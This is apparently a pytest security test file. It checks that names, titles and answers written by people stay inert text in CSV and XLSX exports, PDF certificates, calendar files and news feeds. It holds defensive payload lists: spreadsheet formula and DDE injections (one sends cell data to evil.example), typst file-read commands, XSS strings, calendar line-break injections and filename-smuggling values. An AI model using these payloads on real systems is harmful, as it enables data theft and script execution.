"""What people and staff wrote stays text in every document that leaves the system: tables, certificates, calendars,
feeds. Each is read with a program that we did not write.
"""

import csv
import io
import re
import zipfile
from typing import Any, cast

import feedparser
import lxml.html
import openpyxl
import pytest
from icalendar import Calendar
from lxml import etree  # pyright: ignore[reportAttributeAccessIssue]
from pypdf import PdfReader

from services.registration.certificates.jobs import issue_certificates
from shared import runtime
from shared.http.tables import CSV, XLSX
from shared.text_checks import contains_link
from tests.catalog.catalog import Catalog
from tests.catalog.programs import changed
from tests.notifications.desk import Desk
from tests.registration.registration import V1, Registration
from tests.registration.rules import set_rules
from tests.registration.samples import AFTER
from tests.security.houses import House

# What a spreadsheet takes for a formula, also behind what some strip off first.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", '=HYPERLINK("https://evil.example";"x")',
    "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"https://evil.example/?\";A1);\"//a\")", "DDE(\"cmd\";\"/C calc\")",
]  # fmt: skip
STARTS_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
# What typst, the language in which a certificate is set, would carry out if it were no data.
TYPST = [
    '#read("/etc/passwd")', "#panic()", "#{while true {}}", '#link("mailto:x@evil.example")[here]', "$ 1/0 $", "= Big",
    '#import "@preview/x:0.1.0"', '")) #sys.version', "\\u{202e}", "<label> @label", "`raw` *b* _i_",
    "#set page(width: 1pt)",
]  # fmt: skip
PDF = ["(x) Tj ET", "%PDF-1.7", "endstream endobj", "/JavaScript (app.alert(1))", "</x:xmpmeta><?xpacket end='w'?>"]
CALENDAR = [
    "x\r\nATTENDEE:mailto:evil@x.org",
    "x\nBEGIN:VALARM",
    "x\\nURL:https://evil.example",
    "END:VEVENT",
    "a;b,c:d",
]
MARKUP = [
    "<script>alert(1)</script>",
    "]]><x/>",
    "&lt;b&gt;",
    "<img src=x onerror=alert(1)>",
    "&#x3c;svg/onload=alert(1)>",
]
NAMES = [text for text in (*FORMULAS, *TYPST, *PDF, *MARKUP) if not set(text) & set("\t\r\n")]


@pytest.fixture
def asked(registration: Registration) -> Registration:
    """A session with a question that is answered in free words."""
    registration.hold()
    set_rules(registration, questions=[{"key": "why", "label": "Why?", "kind": "text", "required": False}])
    return registration


def sign_up(registration: Registration, texts: list[str]) -> None:
    """One person for each text, which they write wherever they may write: what holds a link is no name."""
    for number, text in enumerate(texts):
        line = "Ann" if contains_link(text) else text
        library = {"name": line, "type": "public"}
        made = registration.register(
            f"p{number}@x.org",
            name=line,
            library=library,
            job_title=line,
            accommodations=text,
            answers={"why": text},
        )
        assert made.status_code == 201, made.text


def table(registration: Registration, kind: str) -> Any:
    path = f"{V1}/sessions/world-cafe/registrations"
    return registration.client.get(path, headers={**registration.staff, "Accept": kind}, buffered=True)


@pytest.mark.covers("API8:2023", "ASVS 1.2.10")
def test_no_cell_of_a_csv_begins_a_formula_and_no_text_leaves_its_cell(asked: Registration) -> None:
    sign_up(asked, [*NAMES, '",=1+1,"'])

    rows = list(csv.reader(io.StringIO(table(asked, CSV).data.decode("utf-8-sig"))))

    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + len(NAMES) + 1
    assert [cell for row in rows[1:] for cell in row if cell.startswith(STARTS_FORMULA)] == []
    assert {row[rows[0].index("why")].removeprefix("'") for row in rows[1:]} >= set(NAMES)


@pytest.mark.covers("API8:2023", "ASVS 1.2.10")
def test_a_workbook_has_texts_alone_no_formula_no_link_no_macro(asked: Registration) -> None:
    sign_up(asked, NAMES)

    data = table(asked, XLSX).data
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    packed = zipfile.ZipFile(io.BytesIO(data))

    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert {str(cell.value) for cell in cells} >= set(NAMES)
    assert not [name for name in packed.namelist() if re.search(r"vba|external|hyperlink|_rels/sheet", name, re.I)]
    assert b"<f>" not in packed.read("xl/worksheets/sheet1.xml")


@pytest.mark.covers("API8:2023", "ASVS 1.2.10", "ASVS 5.4.1")
def test_the_readers_of_the_newsletter_are_a_table_without_formulas(desk: Desk, notifying: House) -> None:
    for number, name in enumerate(NAMES):
        desk.subscribe(f"p{number}@x.org", name=name)

    headers = {"Authorization": f"Bearer {notifying.staff('notifications:read')}", "Accept": CSV}
    answer = notifying.client.get("/notifications/v1/readers", headers=headers, buffered=True)

    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(NAMES)
    assert [cell for row in rows[1:] for cell in row if cell.startswith(STARTS_FORMULA)] == []


def certificate(registration: Registration, name: str, **session: Any) -> Any:
    registration.hold(contact_hours=1, **session)
    registration.register("ada@x.org", name=name)
    registration.set_time(AFTER)
    registration.attend(("ada@x.org", 80))
    with runtime.share_connection(registration.conn):
        assert issue_certificates() == 1
    id = registration.value("SELECT id FROM certificates")
    printed = registration.client.get(f"{V1}/certificates/{id}.pdf")
    assert printed.status_code == 200, printed.text
    return printed


def squeeze(text: str) -> str:
    """Without what a printed line is broken and set with."""
    return re.sub(r"[\s\u2010\u00ad]", "", text)


@pytest.mark.covers("API8:2023", "ASVS 1.3.7")
@pytest.mark.parametrize("text", [*TYPST, *PDF])
def test_a_certificate_prints_what_a_name_and_a_title_say_and_carries_none_of_it_out(
    registration: Registration, text: str
) -> None:
    printed = certificate(registration, text, title=text)

    document = PdfReader(io.BytesIO(printed.data))
    assert len(document.pages) == 1
    assert squeeze(document.pages[0].extract_text()).count(squeeze(text)) == 2
    assert document.metadata
    assert document.metadata.title == f"Certificate of Attendance: {text}"
    targets = {note.get_object()["/A"]["/URI"] for note in document.pages[0].get("/Annots", [])}
    assert all(target.startswith("https://learning.example.org/") for target in targets)
    assert not {"/OpenAction", "/AA", "/AcroForm", "/Names"} & set(cast("dict[str, object]", document.trailer["/Root"]))


@pytest.mark.covers("ASVS 5.4.1", "ASVS 5.4.2")
def test_the_names_of_files_are_ours_whatever_something_is_called(registration: Registration) -> None:
    printed = certificate(registration, 'x"; filename="evil.exe', title="../../etc/passwd\u202efdp.exe")
    tables = [table(registration, kind) for kind in (CSV, XLSX)]

    named = [re.fullmatch(r'(?:inline|attachment); filename="([\w.-]+)"', one.headers["Content-Disposition"])
             for one in (printed, *tables)]  # fmt: skip
    assert all(named)
    assert [one[1].rpartition(".")[2] for one in named if one] == ["pdf", "csv", "xlsx"]
    assert {one.headers["X-Content-Type-Options"] for one in (printed, *tables)} == {"nosniff"}


def titled(text: str) -> dict[str, Any]:
    """The small programme, with a session and an announcement that say this."""
    document = changed("cafe", title=text, summary=text)
    document["announcements"][0].update(title=text, body=text)
    return document


@pytest.mark.covers("API8:2023", "ASVS 1.1.2")
@pytest.mark.parametrize("text", [one for one in (*CALENDAR, *MARKUP) if one.isprintable()])
def test_a_title_adds_no_property_and_no_entry_to_a_calendar(catalog: Catalog, text: str) -> None:
    catalog.take_in(titled(text))

    entries = Calendar.from_ical(catalog.client.get("/catalog/sessions.ics").data).walk("VEVENT")

    [entry] = [one for one in entries if str(one["uid"]).startswith(catalog.show("/sessions/cafe")["id"])]
    plain = next(one for one in entries if str(one["summary"]) == "Overview")
    assert str(entry["summary"]) == text
    assert len(entries) == 3
    assert set(entry.keys()) - set(plain.keys()) <= {"LOCATION", "CATEGORIES", "ORGANIZER"}
    assert entry.subcomponents == []


@pytest.mark.covers("API8:2023", "ASVS 2.2.1")
@pytest.mark.parametrize("text", [one for one in CALENDAR if not one.isprintable()])
def test_a_title_of_several_lines_is_refused(catalog: Catalog, text: str) -> None:
    assert catalog.send(titled(text)).status_code == 422


@pytest.mark.covers("API8:2023", "ASVS 1.1.2")
@pytest.mark.parametrize("kind", ["atom", "rss"])
@pytest.mark.parametrize("text", MARKUP)
def test_the_words_of_an_announcement_are_no_markup_of_its_feed(catalog: Catalog, kind: str, text: str) -> None:
    catalog.take_in(titled(text))

    data = catalog.client.get(f"/catalog/announcements.{kind}").data

    root = etree.fromstring(data)
    feed = feedparser.parse(data, sanitize_html=False)
    assert not feed.bozo
    assert len(feed.entries) == 1
    assert {etree.QName(one).localname for one in root.iter()} & {"script", "x", "img", "svg"} == set()
    shown = lxml.html.fragment_fromstring(
        feed.entries[0].get("content", [{"value": feed.entries[0].summary}])[0]["value"], create_parent=True
    )
    assert not shown.xpath("//script | //svg | //*[@onerror or @onload]")
